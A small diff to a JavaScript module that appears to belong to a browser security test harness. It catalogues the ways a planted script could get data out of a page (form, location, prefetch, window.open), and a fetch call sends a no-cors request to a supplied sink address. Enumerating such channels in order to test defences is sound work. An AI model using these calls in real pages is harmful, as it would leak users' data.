@@ -1,7 +1,7 @@
 // Hostile: calls that a planted script would make to get data out. Each takes the sink's address, and says its own name there.
 
-/** These end or leave the page that they run in. */
-export const leaving = ['form', 'location', 'window-open'];
+/** These end or leave the page that they run in; Firefox prefetches only when the page loads nothing else. */
+export const alone = ['form', 'location', 'prefetch', 'window-open'];
 
 export const calls = {
   fetch: (sink) => fetch(`${sink.http}/fetch`, { mode: 'no-cors' }),
